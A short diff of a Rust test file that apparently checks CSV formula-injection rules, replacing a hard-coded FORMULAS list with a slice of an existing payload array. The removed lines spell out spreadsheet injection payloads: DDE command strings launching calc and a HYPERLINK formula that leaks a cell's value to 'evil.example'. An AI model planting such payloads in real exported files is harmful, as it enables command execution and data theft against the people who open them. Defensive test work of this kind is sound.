@@ -21,15 +21,9 @@ const PAYLOADS: &[&str] = &[
     "\u{FF1D}1+1",
 ];
 
-/// Payloads R014 reports as they are (the others start with a blank, which R012 reports).
-const FORMULAS: &[&str] = &[
-    "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=1+1",
-];
+/// Payloads R014 reports as they are: the first six (the others start with a blank, which R012
+/// reports).
+const FORMULAS: &[&str] = PAYLOADS.split_at(6).0;
 
 fn quote(cell: &str) -> String {
     if cell.contains([',', '"', '\n', '\r']) {
